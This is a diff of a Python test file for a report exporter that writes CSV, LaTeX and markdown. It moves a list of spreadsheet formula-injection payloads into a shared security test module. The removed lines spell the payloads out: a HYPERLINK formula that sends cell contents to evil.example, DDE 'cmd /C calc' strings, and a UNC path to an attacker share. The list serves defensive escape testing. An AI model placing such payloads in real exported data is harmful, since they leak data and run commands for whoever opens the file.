@@ -21,13 +21,8 @@ from jobs.cli.app import app
 from jobs.reports.parts import Block, Entry, Sheet
 from jobs.reports.render import csv_text, latex, markdown
 from tests.pages.filled_store import Filled
-from tests.security.hostile import COMMANDS, MARKUP
+from tests.security.hostile import COMMANDS, FORMULAS, MARKUP
 
-FORMULAS = (
-    '=HYPERLINK("http://evil.example?x="&A1,"see")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)",
-    "-2+3+cmd|' /C calc'!A0", "\t=1+cmd|'x'!A0", " =IMPORTXML(A1)", "＝cmd|'x'!A0",
-    "a;=HYPERLINK(A1)", "a\t=HYPERLINK(A1)", "=http://evil.example/a", r"='\\evil\share\[book]x'!A1",
-)  # fmt: skip
 LABELS = [
     *("-LRB-", "O", "B-PER", "=A", "-1.5", "1e-05", "-1e+05"),
     *("-", "+", "=", "--", "$", "''", "``", ":", "#"),
